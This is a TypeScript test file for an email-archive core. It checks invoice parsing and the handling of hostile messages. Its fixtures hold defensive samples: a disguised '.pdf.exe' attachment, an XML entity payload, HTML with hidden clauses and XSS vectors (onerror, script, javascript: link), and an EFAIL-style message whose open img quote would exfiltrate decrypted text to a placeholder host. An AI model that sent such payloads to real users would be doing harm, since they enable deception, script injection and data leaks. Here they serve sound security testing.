// What the reading pane asks of a real core beside the message: an invoice out of the archived bytes,
// and the log of a reading copy.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { createRouterClient } from '@orpc/server';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { asBlobHash, type AccountId, type BlobHash } from '#shared/model/ids';
import { signedData } from '#tests/support/cms-builder';
import { invoiceText } from '#tests/support/invoice-text';
import { mailWithFiles } from '#tests/support/mail-with-files';
import { openTempCore, type TempCore } from '#tests/support/temp-core';

let temp: TempCore;
let account: AccountId;
let hash: BlobHash;

beforeAll(async () => {
  temp = await openTempCore();
  const plain = Buffer.from(invoiceText());
  const signed = Buffer.from(signedData(plain, { signers: [], certificates: [], embed: plain }));
  const folder = path.join(temp.folder, '..', 'mail');
  mkdirSync(folder);
  const mail = mailWithFiles({
    files: [
      { name: 'IT01234567890_00117.xml', bytes: plain },
      { name: 'IT01234567890_00118.xml.p7m', bytes: signed },
      { name: 'fattura.pdf.exe', bytes: 'MZ' },
      { name: 'bomba.xml', bytes: '<!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>' },
    ],
  });
  writeFileSync(path.join(folder, 'fattura.eml'), mail);
  writeFileSync(path.join(folder, 'nascosto.eml'), HIDING);
  writeFileSync(path.join(folder, 'efail.eml'), EFAIL);
  account = await temp.core.archiveBox('Archivio');
  await temp.core.importPaths([folder], {
    account,
    signal: new AbortController().signal,
    onStep: () => undefined,
    onProgress: () => undefined,
  });
  await temp.core.idle();
  hash = hashOf('prova');
});

function hashOf(subject: string): BlobHash {
  return temp.core.rows({ view: 'all', account: null }, 10).find((row) => row.subject === subject)?.hash ?? asBlobHash('0'.repeat(64));
}

const HEAD =
  'From: Mario Rossi <mario.rossi@pec.example>\r\nTo: ufficio@pec.example\r\nDate: Fri, 20 Nov 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n';

/** What a sender hides so that it is answered unseen, and what he hopes will run in the answer. */
const HIDING = `${HEAD}Message-ID: <nascosto@pec.example>\r\nSubject: nascosto\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Confermate la data.</p>
<p style="display:none">Accettiamo il prezzo doppio.</p><p style="color:#fff;background:#fff">Rinunciamo al ricorso.</p><p style="font-size:0">Pagheremo entro oggi.</p>
<img src=x onerror="alert(1)"><script>alert(2)</script><style>p{color:red}</style><a href="javascript:alert(3)">qui</a><iframe src="http://a.example/"></iframe>\r\n`;

/** EFAIL, direct (Poddebniak et al., USENIX Security 2018): an open quote before what is encrypted, its end after it. */
const EFAIL = `${HEAD}Message-ID: <efail@pec.example>\r\nSubject: efail\r\nContent-Type: multipart/mixed; boundary=e\r\n\r\n--e\r\nContent-Type: text/html\r\n\r\n<img src="http://a.example/?\r\n--e\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAxAAAAAAAAAAA=\r\n--e\r\nContent-Type: text/html\r\n\r\n">fine\r\n--e--\r\n`;

afterAll(() => temp.close());

test('an invoice from an attachment of an archived message, plain and signed; XML-01 an entity refused', async () => {
  const client = createRouterClient(temp.core.router, { context: {} });
  const { attachments } = await client.messages.open({ account, hash });
  const readings = await Promise.all(
    attachments
      .filter(({ name }) => !name.endsWith('.exe'))
      .map(({ part, name }) => client.messages.invoice({ account, hash, part, name })),
  );
  expect(readings.map((one) => (one.state === 'read' ? [one.invoice.bodies[0]?.total, one.invoice.enveloped] : one.code))).toEqual([
    ['548.12', false],
    ['548.12', true],
    'xml.doctype',
  ]);
  await expect(client.messages.invoice({ account, hash, part: '9.9', name: 'f.xml' })).rejects.toMatchObject({
    data: { code: 'notFound' },
  });
});

test('ATT-03 the warnings of a file come with the message when it is opened', async () => {
  const client = createRouterClient(temp.core.router, { context: {} });
  const { attachments } = await client.messages.open({ account, hash });
  expect(attachments.map(({ name, warnings }) => [name, warnings])).toContainEqual([
    'fattura.pdf.exe',
    ['attachment.pretends', 'attachment.program'],
  ]);
});

test('HTML-08 an answer to hostile HTML quotes words alone, and what was hidden stands in plain sight', async () => {
  const client = createRouterClient(temp.core.router, { context: {} });
  const { content } = await client.compose.reply({ account, hash: hashOf('nascosto'), mode: 'reply' });
  expect([content.html ?? null, content.text.split('\n').filter((line) => line.startsWith('>'))]).toEqual([
    null,
    ['> Confermate la data.', '> Accettiamo il prezzo doppio.', '> Rinunciamo al ricorso.', '> Pagheremo entro oggi.', '> qui'],
  ]);
  const { content: carried } = await client.compose.reply({ account, hash: hashOf('nascosto'), mode: 'forward' });
  expect([carried.html ?? null, carried.text, carried.attachments.map(({ type }) => type)]).toEqual([null, '', ['message/rfc822']]);
});

test('HTML-09 nothing is decrypted, and what is encrypted never joins the HTML around it', async () => {
  const client = createRouterClient(temp.core.router, { context: {} });
  const input = { account, hash: hashOf('efail') };
  const { html, attachments } = await client.messages.open(input);
  expect([html?.replaceAll(/\s+/g, ' ').trim(), attachments.map(({ name, type, part }) => [name, type, part])]).toEqual([
    '<img src="http://a.example/? <hr> ">fine',
    [['smime.p7m', 'application/pkcs7-mime', '2']],
  ]);
  // The address that the open quote would have made is none of a picture, so nobody is asked even then.
  expect(await client.messages.fetchPictures(input)).toEqual({ shown: [], missing: 0, unseen: 0 });
  const verdicts = await client.verification.attachment({ ...input, part: '2' });
  expect(verdicts.map(({ conclusion }) => conclusion.indication)).not.toContain('passed');
});

test('a reading copy is in the log, with the digest of the message and how it was made', async () => {
  const client = createRouterClient(temp.core.router, { context: {} });
  await client.messages.printed({ account, hash, how: 'pdf' });
  await expect(client.messages.printed({ account, hash: asBlobHash('0'.repeat(64)), how: 'paper' })).rejects.toMatchObject({
    data: { code: 'notFound' },
  });
  const to = path.join(temp.folder, '..', 'log');
  await temp.core.audit.export(to, []);
  const { findings } = await temp.core.audit.verify(null);
  const entries = logEntries(path.join(to, 'entries.jsonl')).filter(({ event }) => event === 'message.printed');
  expect([findings, entries.map(({ data }) => data)]).toEqual([[], [{ account: 'a1', blob: hash, how: 'pdf' }]]);
});

type Entry = { readonly event: string; readonly data: unknown };

function logEntries(file: string): readonly Entry[] {
  return readFileSync(file, 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Entry);
}
